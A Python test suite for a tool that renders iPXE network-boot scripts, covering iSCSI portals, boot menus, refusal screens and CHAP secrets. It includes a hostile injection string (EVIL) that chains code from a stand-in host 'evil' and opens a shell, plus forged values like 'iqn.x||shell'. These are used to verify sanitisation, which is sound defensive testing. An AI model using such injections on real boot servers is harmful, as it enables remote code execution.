"""The iPXE scripts. Invariant: whatever a plan says, a script holds only the commands that we wrote."""

from __future__ import annotations

from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bootlink_events import BootPlan, Chap, ClusterKey, Menu, MenuEntry, RefusalCause
from bootlink_tftp.ipxe import COLUMNS, Text, Token, UnsafeValue, fill, say
from bootlink_tftp.screens import RETRY_SECONDS, SCREENS, SOON_SECONDS, lines, words
from bootlink_tftp.scripts import Asker, Script, autoexec, portal_hosts, render
from lab.boot_plans import BOOT_ID, MAC, disk, plan, refused
from lab.ipxe_script import BASE, check

ASKER = Asker(MAC, BOOT_ID, BASE)
NOWHERE: frozenset[str] = frozenset()
CONSOLE_ROWS = 25
EVIL = "${net0/mac}\n sanboot iscsi:evil || chain http://evil/ && shell ; reboot # \\\r\n:label `<script>"


def screen_rows(script: Script) -> int:
    """Rows that a screen takes on the console."""
    rows = [line for line in script.text.split("\n") if line.startswith(("echo", "prompt"))]
    assert all(len(row.removeprefix("echo ")) <= COLUMNS for row in rows if row.startswith("echo"))
    return len(rows)


def test_a_linked_client_boots_its_disk_in_the_order_of_its_portals() -> None:
    script = render(ASKER, plan(portals=("10.77.0.1:3260", "10.77.0.2:3261")), on_link=NOWHERE)
    assert (script.kind, script.cause) == ("sanboot", None)
    found = check(script.text)
    assert found[0] == ["set", "initiator-iqn", f"iqn.2026-11.io.bootlink:52-54-00-12-34-56:{BOOT_ID}"]
    target = "iqn.2026-11.io.bootlink:52-54-00-12-34-56"
    assert [command[1] for command in found if command[0] == "sanhook"] == [
        f"iscsi:10.77.0.1::3260:0:{target}",
        f"iscsi:10.77.0.2::3261:0:{target}",
    ]
    assert ["set", "netX/gateway", "10.77.0.1"] not in found


def test_the_gateway_is_the_target_where_it_is_on_the_same_link() -> None:
    portals = ("10.77.0.1:3260", "10.99.0.2:3260")
    found = check(render(ASKER, plan(portals=portals), on_link=frozenset({"10.77.0.1"})).text)
    gateway = found.index(["set", "netX/gateway", "10.77.0.1"])
    assert found[gateway + 1][0] == "sanhook"
    assert found[gateway + 3] == ["clear", "netX/gateway"], "the next portal is reached as DHCP says"
    assert sum(command[:2] == ["set", "netX/gateway"] for command in found) == 1


def test_the_lun_is_hexadecimal_and_the_lowest_one_boots() -> None:
    script = render(ASKER, plan(disks=(disk(lun=12, image="data"), disk(lun=10, image="system"))), on_link=NOWHERE)
    assert "::3260:a:iqn" in script.text
    assert "boots system version 3" in script.text


def test_a_failed_disk_shows_which_step_failed_and_asks_again_under_that_name() -> None:
    found = check(render(ASKER, plan(), on_link=NOWHERE).text)
    chained = [command[3] for command in found if command[0] == "chain"]
    assert chained == [
        f"{BASE}/boot/{BOOT_ID}/52-54-00-12-34-56.attach.ipxe",
        f"{BASE}/boot/{BOOT_ID}/52-54-00-12-34-56.start.ipxe",
    ]
    names = [command[0] for command in found]
    assert names[names.index("sanboot") + 1] == "sanunhook", "else the next attempt finds the drive number taken"


def offering(*titles: str, seconds: int = 10, client: str = "pc-001", default: str = "link") -> BootPlan:
    """A plan with a menu: the link itself as `link`, and the images image-1, image-2 and so on as e1, e2."""
    entries = [MenuEntry(name="link", title="Windows 11", disks=(disk(),))]
    entries += [
        MenuEntry(name=f"e{n}", title=title, disks=(disk(image=f"image-{n}"),)) for n, title in enumerate(titles, 1)
    ]
    menu = Menu(entries=tuple(entries), default=default, seconds=seconds)
    return plan(client=client).model_copy(update={"menu": menu})


def test_a_menu_offers_each_entry_and_what_is_chosen_is_the_target_that_is_attached() -> None:
    script = render(ASKER, offering("Ubuntu 24.04", "Rescue", seconds=20, default="e1"), on_link=NOWHERE)
    assert (script.kind, script.menu) == ("sanboot", True)
    found = check(script.text)
    assert [command[1:] for command in found if command[0] == "item"] == [
        ["link", "Windows", "11"],
        ["e1", "Ubuntu", "24.04"],
        ["e2", "Rescue"],
    ]
    assert ["choose", "--timeout", "20000", "--default", "e1", "menu-entry"] in found
    target = "iqn.2026-11.io.bootlink:52-54-00-12-34-56"
    assert [command[2] for command in found if command[:2] == ["set", "menu-target"]] == [
        f"{target}:link",
        f"{target}:e1",
        f"{target}:e2",
    ]
    assert [command[1] for command in found if command[0] == "sanhook"] == ["iscsi:10.77.0.1::3260:0:${menu-target}"]
    assert [command[3].rpartition("/")[2] for command in found if command[0] == "chain"] == [
        "52-54-00-12-34-56.attach.${menu-entry}.ipxe",
        "52-54-00-12-34-56.start.${menu-entry}.ipxe",
    ]
    assert "The disk ${menu-image} was attached" in script.text


def test_a_menu_that_waits_for_ever_has_no_timeout() -> None:
    found = check(render(ASKER, offering("Ubuntu", seconds=0), on_link=NOWHERE).text)
    assert ["choose", "--default", "link", "menu-entry"] in found


def test_escape_shows_the_menu_again_and_an_ipxe_without_menus_takes_the_default() -> None:
    text = render(ASKER, offering("Ubuntu", default="e1"), on_link=NOWHERE).text
    assert "\nmenu Bootlink: pc-001 || goto entry_e1\n" in text
    assert " menu-entry || goto menu\ngoto entry_${menu-entry}\n:entry_link\n" in text


@given(title=st.text(max_size=60), client=st.text(max_size=60))
def test_no_text_in_a_menu_becomes_a_command(title: str, client: str) -> None:
    check(render(ASKER, offering(title, EVIL, client=client), on_link=NOWHERE).text)


@pytest.mark.parametrize("name", ["a b", "${x}", "", "-x", "a||shell"])
def test_a_forged_entry_shows_a_screen_instead_of_a_menu(name: str) -> None:
    offered = offering("Ubuntu")
    assert offered.menu is not None
    entries = (*offered.menu.entries, MenuEntry(name=name, title="", disks=(disk(),)))
    forged = offered.model_copy(update={"menu": offered.menu.model_copy(update={"entries": entries})})
    script = render(ASKER, forged, on_link=NOWHERE)
    assert (script.kind, script.cause) == ("screen", "bad_plan")


@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled", "disk_full"])
def test_a_refusal_is_shown_with_its_cause_and_remedy(cause: RefusalCause) -> None:
    script = render(ASKER, refused(cause, "The link names win12.", "bootlink image list"), on_link=NOWHERE)
    check(script.text)
    assert (script.kind, script.cause) == ("screen", cause)
    for said in (SCREENS[cause].title, "The link names win12.", "bootlink image list", MAC, "pc-001", str(BOOT_ID)):
        assert said in script.text
    assert f"--timeout {RETRY_SECONDS * 1000} " in script.text


@pytest.mark.parametrize("chap", ["off", "one-way", "mutual"])
def test_the_secrets_of_a_boot_are_set_as_its_plan_asks(chap: Chap) -> None:
    key = ClusterKey(b"k" * 32)
    known = key.credentials(MAC, BOOT_ID)
    script = render(ASKER, plan().model_copy(update={"chap": chap}), on_link=NOWHERE, key=key)
    found = check(script.text)
    settings = {command[1]: command[2] for command in found if command[0] == "set"}
    settings.pop("initiator-iqn")
    cleared = {command[1] for command in found if command[0] == "clear"}
    own = {"username": known.user, "password": known.secret}
    reverse = {"reverse-username": known.target_user, "reverse-password": known.target_secret}
    assert settings == {"off": {}, "one-way": own, "mutual": own | reverse}[chap]
    assert ("username" in cleared, "reverse-username" in cleared) == (chap == "off", chap == "one-way")
    assert (known.secret in script.text) == (chap != "off")
    assert known.secret not in repr(script)


def test_a_plan_that_asks_for_a_secret_is_a_screen_where_none_can_be_made() -> None:
    script = render(ASKER, plan().model_copy(update={"chap": "one-way"}), on_link=NOWHERE)
    check(script.text)
    assert (script.kind, script.cause) == ("screen", "no_key")
    assert "BOOTLINK_CLUSTER_KEY" in script.text


def test_an_unknown_client_is_asked_again_sooner() -> None:
    script = render(ASKER, None, on_link=NOWHERE)
    check(script.text)
    assert script.cause == "unknown_client"
    assert f"bootlink client add {MAC}" in script.text
    assert f"--timeout {SOON_SECONDS * 1000} " in script.text


def test_a_server_that_has_not_read_its_plans_does_not_call_the_client_unknown() -> None:
    assert render(ASKER, None, on_link=NOWHERE, plans_read=False).cause == "plans_unread"


def test_a_plan_without_disks_or_portals_says_so() -> None:
    assert render(ASKER, plan(disks=()), on_link=NOWHERE).cause == "no_link"
    assert render(ASKER, plan(portals=()), on_link=NOWHERE).cause == "no_blockstore"
    assert render(ASKER, plan(portals=("[fd00::1]:3260",)), on_link=NOWHERE).cause == "bad_plan"


@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled", "disk_full"])
def test_every_screen_fits_the_console(cause: RefusalCause) -> None:
    long = "a very long explanation of what is wrong with this and that " * 20
    assert screen_rows(render(ASKER, refused(cause, long, long), on_link=NOWHERE)) < CONSOLE_ROWS - 3
    assert screen_rows(render(ASKER, None, on_link=NOWHERE)) < CONSOLE_ROWS - 3


@pytest.mark.parametrize("cause", SCREENS)
def test_every_screen_says_what_is_wrong_who_the_pc_is_and_what_to_do(cause: str) -> None:
    facts = {"mac": MAC, "client": "pc-001", "boot_id": str(BOOT_ID), "server": BASE, "image": "win11"}
    facts |= {"target": "iqn.x", "portals": "10.77.0.1:3260", "kernel": "linux"}
    detail, remedy = words(cause, facts)
    shown = lines(cause, detail=detail, remedy=remedy, url=ASKER.url(), facts=facts, label="again")
    for row in (
        f"Bootlink: {SCREENS[cause].title}",
        f"MAC address: {MAC}",
        "Client: pc-001",
        f"Boot id: {BOOT_ID}",
        f"Boot server: {BASE}",
    ):
        assert f"echo {row}" in shown
    text = " ".join(row.removeprefix("echo ") for row in shown)
    assert f"Cause: {detail}" in text
    assert f"What to do: {remedy}" in text


def test_there_is_a_screen_for_all_that_the_registry_refuses() -> None:
    assert set(get_args(RefusalCause)) <= SCREENS.keys()


def test_a_client_name_cannot_inject_a_command() -> None:
    script = render(ASKER, plan(client=EVIL, disks=(disk(image=EVIL),)), on_link=NOWHERE)
    assert script.kind == "sanboot"
    check(script.text)
    assert "evil" in script.text, "it is shown, without its teeth"
    check(render(ASKER, refused("no_link", EVIL, EVIL), on_link=NOWHERE).text)


@pytest.mark.parametrize("target", ["iqn.x sanboot", "iqn.x\nshell", "iqn.${x}", "", "-x", "iqn.x||shell"])
def test_a_forged_target_shows_a_screen_instead_of_booting(target: str) -> None:
    script = render(ASKER, plan(target=target), on_link=NOWHERE)
    assert (script.kind, script.cause) == ("screen", "bad_plan")
    check(script.text)


@given(
    client=st.text(max_size=80), image=st.text(max_size=80), target=st.text(max_size=60), portal=st.text(max_size=30)
)
def test_no_text_in_a_plan_becomes_a_command(client: str, image: str, target: str, portal: str) -> None:
    evil = plan(client=client, disks=(disk(image=image),), target=target, portals=(portal, "10.77.0.1:3260"))
    check(render(ASKER, evil, on_link=frozenset(portal_hosts(evil))).text)


@given(detail=st.text(max_size=400), remedy=st.text(max_size=400))
def test_no_text_in_a_refusal_becomes_a_command(detail: str, remedy: str) -> None:
    script = render(ASKER, refused("no_link", detail, remedy), on_link=NOWHERE)
    check(script.text)
    assert screen_rows(script) < CONSOLE_ROWS - 3


def test_autoexec_leads_to_the_pcs_own_script_in_the_same_boot() -> None:
    check(autoexec(BASE, BOOT_ID))
    assert f"{BASE}/boot/{BOOT_ID}/${{netX/mac:hexhyp}}.ipxe" in autoexec(BASE, BOOT_ID)
    assert f"chain --autofree --replace {BASE}/${{netX/mac:hexhyp}}.ipxe" in autoexec(BASE, None)


def test_a_token_is_taken_as_it_is_or_not_at_all() -> None:
    assert Token("iscsi:10.0.0.1::3260:0:iqn.x:y") == "iscsi:10.0.0.1::3260:0:iqn.x:y"
    for bad in ("a b", "a\tb", "", "-a", "a;b", "${a}", "a\\", "a#b", "ä"):
        with pytest.raises(UnsafeValue):
            Token(bad)


def test_text_loses_what_ipxe_would_understand() -> None:
    assert Text("a ${b}\n || c # \\") == "a ??b? ?? c ? ?"


def test_a_field_without_a_value_is_a_bug() -> None:
    with pytest.raises(KeyError):
        fill(("echo {missing}",))


def test_words_are_wrapped_and_cut() -> None:
    rows = say("Cause", "word " * 200, rows=3)
    assert len(rows) == 3
    assert rows[-1].endswith("...")
    assert all(len(row) <= COLUMNS + len("echo ") for row in rows)


def test_a_command_to_type_is_shown_as_it_is_to_be_typed() -> None:
    remedy = "bootlink link set pc-001 IMAGE; or for all PCs: bootlink link set --default IMAGE; see `bootlink status`"
    for pad in range(60):
        shown = " ".join(row.removeprefix("echo ") for row in say("x" * pad, remedy, rows=9))
        assert "bootlink link set pc-001 IMAGE, or for all PCs: bootlink link set --default IMAGE" in shown
        assert shown.endswith("see 'bootlink status'")
